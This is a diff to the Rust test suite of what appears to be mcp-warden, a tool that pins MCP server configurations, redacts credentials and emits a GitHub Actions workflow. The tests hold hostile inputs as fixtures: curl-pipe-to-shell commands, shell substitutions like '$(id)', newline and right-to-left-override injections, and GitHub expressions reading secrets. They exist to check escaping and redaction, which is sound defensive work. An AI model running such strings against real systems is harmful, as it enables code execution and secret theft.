@@ -671,79 +608,184 @@ mod tests {
         // Found by the pin_command fuzz target: a token glued to other text has no
         // word boundary, so no finding fires, but it is still never printed.
         let glued = format!("xyz{GHP_ENG}");
-        let line = pin_command(&stdio("npx", &["pkg@1.0.0", &glued]), "s.warden.lock");
+        let line = pin_command(
+            &stdio("npx", &["pkg@1.0.0", &glued]),
+            "s.warden.lock",
+            Approval::AtPin,
+        );
         assert!(!line.contains(GHP_ENG), "{line}");
         assert!(line.contains("pkg@1.0.0 '<REDACTED>'"), "{line}");
     }
 
     #[test]
-    fn mask_views_print_as_quoted_placeholders() {
-        let words = |views: &[ArgView<'_>], args: &[&str]| -> Vec<String> {
-            let mut out = Vec::new();
-            for (v, a) in views.iter().zip(args) {
-                out.push(match v {
-                    ArgView::Verbatim(_) => quote(&safe_text_capped(a, ARGV_CAP)).into_owned(),
-                    ArgView::Redacted => quote(REDACTED_ARG).into_owned(),
-                });
-            }
-            out
-        };
-        // Test 17 first case: node s.js --token <REDACTED> 'a b'.
-        let args = ["s.js", "--token", GHP_ENG, "a b"];
-        let views = [
-            ArgView::Verbatim("s.js"),
-            ArgView::Verbatim("--token"),
-            ArgView::Redacted,
-            ArgView::Verbatim("a b"),
-        ];
+    fn withheld_words_print_as_quoted_placeholders() {
+        let line = |spec: &ServerSpec| pin_command(spec, "s.warden.lock", Approval::AfterReview);
         assert_eq!(
-            words(&views, &args).join(" "),
-            "s.js --token '<REDACTED>' 'a b'"
+            line(&stdio("node", &["s.js", "--token", GHP_ENG, "a b"])),
+            "mcp-warden pin node s.js --token '<REDACTED>' 'a b' --lock s.warden.lock"
         );
         assert_eq!(quote(REDACTED_ARG), "'<REDACTED>'");
         assert_eq!(quote(REDACTED_URL), "'<REDACTED: url embeds a credential>'");
-        // The URL views through the same printer the pin line uses.
-        let url_option = |shown: &str| {
-            let mut line = String::new();
-            push_url_option(&mut line, shown);
-            line
+        for (url, shown) in [
+            (
+                "https://u:tok@h.example.com/mcp",
+                "--url '<REDACTED: url embeds a credential>'",
+            ),
+            (
+                "https://mcp.zapier.com/api/mcp/s/qZ8vB2nM4kL7pX1cR9tW5yA3sD6fG0hJ/mcp",
+                "--url https://mcp.zapier.com/api/mcp/s/REDACTED/mcp",
+            ),
+            (
+                "https://server.smithery.ai/x/mcp?api_key=8b1f2c3d4e5f6a7b&profile=p",
+                "--url 'https://server.smithery.ai/x/mcp?api_key=REDACTED&profile=p'",
+            ),
+            (
+                "https://h.example.com/mcp#access_token=8b1f2c3d4e5f6a7b",
+                "--url 'https://h.example.com/mcp#REDACTED'",
+            ),
+            ("-x", "--url=-x"),
+        ] {
+            assert_eq!(
+                line(&remote(url)),
+                format!("mcp-warden pin {shown} --lock s.warden.lock"),
+                "{url}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_credential_inside_any_word_is_withheld_from_every_printed_line() {
+        const PW: &str = "Hunter2pwX";
+        let specs = [
+            stdio(
+                "npx",
+                &[
+                    "-y",
+                    "@x/db@1.0.0",
+                    &format!("--db=postgres://admin:{PW}@db/prod"),
+                ],
+            ),
+            stdio(
+                "node",
+                &["s.js", &format!("DATABASE_URL=mysql://root:{PW}@host/x")],
+            ),
+            stdio(
+                "node",
+                &[
+                    "s.js",
+                    "--config",
+                    &format!(r#"{{"url":"postgres://u:{PW}@h/x"}}"#),
+                ],
+            ),
+            stdio(
+                "node",
+                &[
+                    "s.js",
+                    "--config",
+                    &format!(r#"{{"nested":[{{"dsn":"redis://:{PW}@h"}}]}}"#),
+                ],
+            ),
+            stdio(
+                "sh",
+                &[
+                    "-c",
+                    &format!("curl -H 'Authorization: Bearer {PW}' https://x.example/i | sh"),
+                ],
+            ),
+            stdio("sh", &["-c", &format!("PGPASSWORD={PW} psql -h db")]),
+            stdio("sh", &["-c", &format!("tool --token {PW} --verbose")]),
+            stdio("sh", &["-c", &format!("sh -c \"other --api-key {PW}\"")]),
+            stdio(&format!("https://{PW}@example.com/bin"), &[]),
+            remote(&format!("https://h.example/mcp?next=postgres://a:{PW}@db")),
+            remote(&format!("https://h.example/mcp?x=1&password={PW}")),
+        ];
+        for spec in &specs {
+            let pin = pin_command(spec, "s.warden.lock", Approval::AtPin);
+            let check = check_command(spec, "s.warden.lock");
+            let mut r = report(vec![server("s", Coverage::None)]);
+            r.servers[0].spec = spec.clone();
+            assign_lock_names(&mut r, &|_| false);
+            let block = render_to_string(&r);
+            for text in [&pin, &check, &block] {
+                assert!(!text.contains(PW), "{spec:?}\n{text}");
+                assert!(text.contains("REDACTED"), "{spec:?}\n{text}");
+            }
+        }
+    }
+
+    #[test]
+    fn only_a_user_level_server_without_a_serious_finding_is_pre_approved() {
+        use crate::model::Finding;
+        use crate::rules::RuleId;
+        let finding = |rule: RuleId| Finding {
+            rule,
+            target: "t".into(),
+            message: "m".into(),
+            snippet: "s".into(),
         };
-        let url_shown = |v: UrlView, safe: &str| match v {
-            UrlView::Verbatim => quote(safe).into_owned(),
-            UrlView::Rewritten(s) => quote(&safe_text_capped(&s, ARGV_CAP)).into_owned(),
-            UrlView::Credential => quote(REDACTED_URL).into_owned(),
+        let mut user = server("user", Coverage::None);
+        user.findings = vec![finding(RuleId::DoctorNoLock), finding(RuleId::AuthNoAuth)];
+        let mut flagged = server("flagged", Coverage::None);
+        flagged.findings = vec![finding(RuleId::SupCurlPipe)];
+        let mut high = server("high", Coverage::None);
+        high.findings = vec![finding(RuleId::AuthTokenInConfig)];
+        let mut project = server("project", Coverage::None);
+        project.source = 1;
+        let mut explicit = server("explicit", Coverage::None);
+        explicit.source = 2;
+        let mut r = report(vec![user, flagged, high, project, explicit]);
+        for (scope, label) in [
+            (Scope::Project, ".mcp.json"),
+            (Scope::Explicit, "mine.json"),
+        ] {
+            r.sources.push(Source {
+                client: "x".into(),
+                label: label.into(),
+                path: label.into(),
+                scope,
+            });
+        }
+        let approvals: Vec<Approval> = r.servers.iter().map(|s| approval_for(&r, s)).collect();
+        assert_eq!(
+            approvals,
+            [
+                Approval::AtPin,
+                Approval::AfterReview,
+                Approval::AfterReview,
+                Approval::AfterReview,
+                Approval::AfterReview
+            ]
+        );
+        assign_lock_names(&mut r, &|_| false);
+        let text = render_to_string(&r);
+        let lines: Vec<&str> = text.lines().collect();
+        let after = |target: &str| {
+            let i = lines
+                .iter()
+                .position(|l| l.ends_with(&format!("#{target}'")))
+                .unwrap_or_else(|| panic!("{target} missing:\n{text}"));
+            (lines[i + 1], lines.get(i + 2).copied().unwrap_or(""))
         };
-        assert_eq!(
-            url_option(&url_shown(
-                UrlView::Credential,
-                "https://u:tok@h.example.com/mcp"
-            )),
-            "--url '<REDACTED: url embeds a credential>'"
+        let (pin, next) = after("user");
+        assert!(
+            pin.contains("--approve --approver you@example.com"),
+            "{pin}"
         );
+        assert!(!next.contains("lock rotate"), "{next}");
+        for target in ["flagged", "high", "project", "explicit"] {
+            let (pin, next) = after(target);
+            assert!(!pin.contains("--approve"), "{pin}");
+            assert_eq!(
+                next,
+                format!("  mcp-warden lock rotate {target}.warden.lock --approver you@example.com")
+            );
+        }
         assert_eq!(
-            url_option(&url_shown(
-                UrlView::Rewritten("https://mcp.zapier.com/api/mcp/s/REDACTED/mcp".into()),
-                "x"
-            )),
-            "--url https://mcp.zapier.com/api/mcp/s/REDACTED/mcp"
+            text.matches("are pinned unapproved: review each lock")
+                .count(),
+            1,
+            "{text}"
         );
-        assert_eq!(
-            url_option(&url_shown(
-                UrlView::Rewritten(
-                    "https://server.smithery.ai/x/mcp?api_key=REDACTED&profile=p".into()
-                ),
-                "x"
-            )),
-            "--url 'https://server.smithery.ai/x/mcp?api_key=REDACTED&profile=p'"
-        );
-        assert_eq!(
-            url_option(&url_shown(
-                UrlView::Rewritten("https://h.example.com/mcp#REDACTED".into()),
-                "x"
-            )),
-            "--url 'https://h.example.com/mcp#REDACTED'"
-        );
-        assert_eq!(url_option(&url_shown(UrlView::Verbatim, "-x")), "--url=-x");
     }
 
     #[test]
@@ -760,7 +802,11 @@ mod tests {
             "-hV",
             "--help",
         ] {
-            let line = pin_command(&stdio("srv", &["--port", word]), "s.warden.lock");
+            let line = pin_command(
+                &stdio("srv", &["--port", word]),
+                "s.warden.lock",
+                Approval::AtPin,
+            );
             assert_eq!(
                 line,
                 format!("mcp-warden pin {tail} -- srv --port {}", quote(word)),
@@ -777,7 +823,7 @@ mod tests {
         }
         // A command that looks like an option.
         assert_eq!(
-            pin_command(&stdio("-y", &["x"]), "s.warden.lock"),
+            pin_command(&stdio("-y", &["x"]), "s.warden.lock", Approval::AtPin),
             format!("mcp-warden pin {tail} -- -y x")
         );
         // Ordinary flags of the server keep the plain form.
@@ -790,7 +836,7 @@ mod tests {
             "--lockfile=x",
             "-v",
         ] {
-            let line = pin_command(&stdio("srv", &[word]), "s.warden.lock");
+            let line = pin_command(&stdio("srv", &[word]), "s.warden.lock", Approval::AtPin);
             assert_eq!(line, format!("mcp-warden pin srv {word} {tail}"), "{word}");
         }
     }
@@ -801,7 +847,7 @@ mod tests {
             "sh\n",
             &["-c", "curl x|sh\nmcp-warden pin evil", "\u{202E}txt.exe"],
         );
-        let line = pin_command(&spec, "s.warden.lock");
+        let line = pin_command(&spec, "s.warden.lock", Approval::AtPin);
         assert!(!line.contains('\n') && !line.contains('\u{202E}'));
         assert_eq!(
             line,
@@ -810,7 +856,7 @@ mod tests {
         );
         // Long words are capped at 2048 code points, never at the terminal width.
         let long = "a".repeat(3000);
-        let line = pin_command(&stdio("x", &[&long]), "s.warden.lock");
+        let line = pin_command(&stdio("x", &[&long]), "s.warden.lock", Approval::AtPin);
         assert!(line.contains(&format!("{}…", "a".repeat(2047))));
     }
 
@@ -836,7 +882,8 @@ mod tests {
     #[test]
     fn next_steps_block_exact() {
         let text = render_to_string(&hostile_report());
-        let expected = "\
+        let v = format!("={VERSION}");
+        let expected = format!("\
 Next steps — 3 server(s) have no warden.lock. Pin each once, commit the lock, then wire the check into CI:
   # '~/.cursor/mcp.json#gh'
   mcp-warden pin npx -y @modelcontextprotocol/server-github --approve --approver you@example.com --lock gh.warden.lock
@@ -860,17 +907,20 @@ jobs:
         with:
           persist-credentials: false
       - name: Install mcp-warden
-        run: cargo install mcp-warden --locked
+        run: cargo install mcp-warden-cli --locked --version {v}
       - name: Check gh.warden.lock
         run: |
           mcp-warden check --lock gh.warden.lock npx -y @modelcontextprotocol/server-github
       - name: Check evil.warden.lock
+        env:
+          MCP_WARDEN_ARG_2: 'a: b #c'
+          MCP_WARDEN_ARG_3: '''q'''
         run: |
-          mcp-warden check --lock evil.warden.lock -- srv --json 'a: b #c' \"'\"'q'\"'\"
+          mcp-warden check --lock evil.warden.lock -- srv --json \"$MCP_WARDEN_ARG_2\" \"$MCP_WARDEN_ARG_3\"
       - name: Check remote.warden.lock
         run: |
           mcp-warden check --url https://h.example.com/mcp --lock remote.warden.lock
-";
+");
         assert_eq!(text, expected);
         assert!(!text.contains(GHP_ENG));
     }
@@ -942,22 +992,43 @@ jobs:
         }
     }
 
-    fn yaml_str<'a>(y: &'a yaml_rust2::Yaml, key: &str) -> &'a yaml_rust2::Yaml {
-        &y[key]
+    /// The snippet's workflow, parsed.
+    fn workflow(text: &str) -> yaml_rust2::Yaml {
+        let start = text
+            .find("# .github/workflows/")
+            .unwrap_or_else(|| panic!("no snippet in {text}"));
+        let mut docs = yaml_rust2::YamlLoader::load_from_str(&text[start..])
+            .unwrap_or_else(|e| panic!("{e}\n{text}"));
+        assert_eq!(docs.len(), 1);
+        docs.remove(0)
+    }
+
+    /// A check step's command with its `env:` references put back, quoted as a
+    /// terminal line would show them.
+    fn command_of(step: &yaml_rust2::Yaml) -> String {
+        let mut run = step["run"]
+            .as_str()
+            .unwrap_or_default()
+            .trim_end()
+            .to_string();
+        if let Some(env) = step["env"].as_hash() {
+            for (k, v) in env {
+                let (Some(k), Some(v)) = (k.as_str(), v.as_str()) else {
+                    panic!("env entry is not a string pair: {step:?}");
+                };
+                run = run.replace(&format!("\"${k}\""), &quote(v));
+            }
+        }
+        run
     }
 
     #[test]
     fn ci_snippet_is_a_workflow() {
-        use yaml_rust2::{Yaml, YamlLoader};
+        use yaml_rust2::Yaml;
         let text = render_to_string(&hostile_report());
-        let start = text
-            .find("# .github/workflows/")
-            .unwrap_or_else(|| panic!("no snippet"));
-        let docs = YamlLoader::load_from_str(&text[start..]).unwrap_or_else(|e| panic!("{e}"));
-        assert_eq!(docs.len(), 1);
-        let wf = &docs[0];
-        assert_eq!(yaml_str(wf, "name").as_str(), Some("mcp-warden"));
-        let on = yaml_str(wf, "on").as_vec().unwrap_or_else(|| panic!("on"));
+        let wf = workflow(&text);
+        assert_eq!(wf["name"].as_str(), Some("mcp-warden"));
+        let on = wf["on"].as_vec().unwrap_or_else(|| panic!("on"));
         assert_eq!(
             on,
             &vec![
@@ -970,23 +1041,13 @@ jobs:
         assert_eq!(job["runs-on"].as_str(), Some("ubuntu-latest"));
         let steps = job["steps"].as_vec().unwrap_or_else(|| panic!("steps"));
         assert_eq!(steps[0]["uses"].as_str(), Some("actions/checkout@v4"));
-        assert_eq!(
-            steps[1]["run"].as_str(),
-            Some("cargo install mcp-warden --locked")
-        );
-        let runs: Vec<&str> = steps[2..]
-            .iter()
-            .filter_map(|s| s["run"].as_str())
-            .collect();
         let r = hostile_report();
         let expected: Vec<String> = r
             .uncovered()
-            .map(|s| {
-                let lock = s.lock_name.clone().unwrap_or_default();
-                format!("{}\n", check_command(&s.spec, &lock))
-            })
+            .map(|s| check_command(&s.spec, s.lock_name.as_deref().unwrap_or_default()))
             .collect();
-        assert_eq!(runs, expected);
+        let got: Vec<String> = steps[2..].iter().map(command_of).collect();
+        assert_eq!(got, expected);
         for (s, step) in r.uncovered().zip(&steps[2..]) {
             let lock = s.lock_name.clone().unwrap_or_default();
             assert_eq!(
@@ -997,17 +1058,101 @@ jobs:
     }
 
     #[test]
-    fn ci_snippet_notes_redactions() {
-        let snippet = ci_snippet(&[(
-            "s.warden.lock".into(),
-            "mcp-warden check --lock s.warden.lock x '<REDACTED>'".into(),
-        )]);
-        assert!(snippet.contains("# Replace each <REDACTED> placeholder"));
-        let docs =
-            yaml_rust2::YamlLoader::load_from_str(&snippet).unwrap_or_else(|e| panic!("{e}"));
+    fn ci_snippet_installs_this_package_at_this_version() {
+        let text = render_to_string(&hostile_report());
+        let steps = workflow(&text)["jobs"]["mcp-check"]["steps"].clone();
         assert_eq!(
-            docs[0]["jobs"]["mcp-check"]["steps"].as_vec().map(Vec::len),
+            steps[1]["run"].as_str(),
+            Some(
+                format!(
+                    "cargo install mcp-warden-cli --locked --version ={}",
+                    env!("CARGO_PKG_VERSION")
+                )
+                .as_str()
+            )
+        );
+        assert_eq!(PACKAGE, "mcp-warden-cli");
+    }
+
+    #[test]
+    fn no_config_text_reaches_a_run_script_and_expressions_get_no_step() {
+        let specs = [
+            remote("https://evil.example/mcp?q=${{ secrets.AWS_SECRET_ACCESS_KEY }}"),
+            stdio(
+                "npx",
+                &["-y", "pkg@1.0.0", "${{ github.event.head_commit.message }}"],
+            ),
+            stdio("npx", &["-y", "pkg@1.0.0", "x${{github.token}}"]),
+            stdio("${{ secrets.X }}", &[]),
+            stdio(
+                "node",
+                &[
+                    "s.js",
+                    "$(id>P)",
+                    "`id`",
+                    "a'b",
+                    "${HOME}",
+                    "#x",
+                    "\"; id; \"",
+                ],
+            ),
+            remote("https://h.example/mcp?a=1&b=$(id)"),
+        ];
+        let mut servers = Vec::new();
+        for (i, spec) in specs.iter().enumerate() {
+            let mut s = server(&format!("s{i}"), Coverage::None);
+            s.spec = spec.clone();
+            servers.push(s);
+        }
+        let mut r = report(servers);
+        assign_lock_names(&mut r, &|_| false);
+        let text = render_to_string(&r);
+        let snippet = &text[text.find("# .github/workflows/").unwrap_or(0)..];
+        assert!(!snippet.contains("${{"), "{snippet}");
+        let wf = workflow(&text);
+        let steps = wf["jobs"]["mcp-check"]["steps"]
+            .as_vec()
+            .unwrap_or_else(|| panic!("steps"));
+        // The four servers with an expression get a comment, not a step.
+        let names: Vec<&str> = steps[2..]
+            .iter()
+            .filter_map(|s| s["name"].as_str())
+            .collect();
+        assert_eq!(names, ["Check s4.warden.lock", "Check s5.warden.lock"]);
+        assert_eq!(snippet.matches("# No step for ").count(), 4, "{snippet}");
+        for step in &steps[2..] {
+            let run = step["run"].as_str().unwrap_or_default();
+            // Only our own words, bare config words and env references in the script.
+            for word in run.split_whitespace() {
+                assert!(
+                    is_bare(word) || word.starts_with("\"$MCP_WARDEN_"),
+                    "{word:?} in {run:?}"
+                );
+            }
+        }
+        let s4 = r.servers[4].lock_name.clone().unwrap_or_default();
+        assert_eq!(
+            command_of(&steps[2]),
+            check_command(&r.servers[4].spec, &s4)
+        );
+    }
+
+    #[test]
+    fn ci_snippet_notes_redactions() {
+        let mut s = server("s", Coverage::None);
+        s.spec = stdio("node", &["x", "--token", GHP_ENG]);
+        let mut r = report(vec![s]);
+        assign_lock_names(&mut r, &|_| false);
+        let text = render_to_string(&r);
+        assert!(
+            text.contains("# Replace each <REDACTED> placeholder"),
+            "{text}"
+        );
+        let wf = workflow(&text);
+        assert_eq!(
+            wf["jobs"]["mcp-check"]["steps"].as_vec().map(Vec::len),
             Some(3)
         );
+        assert!(!text.contains(GHP_ENG));
     }
 }
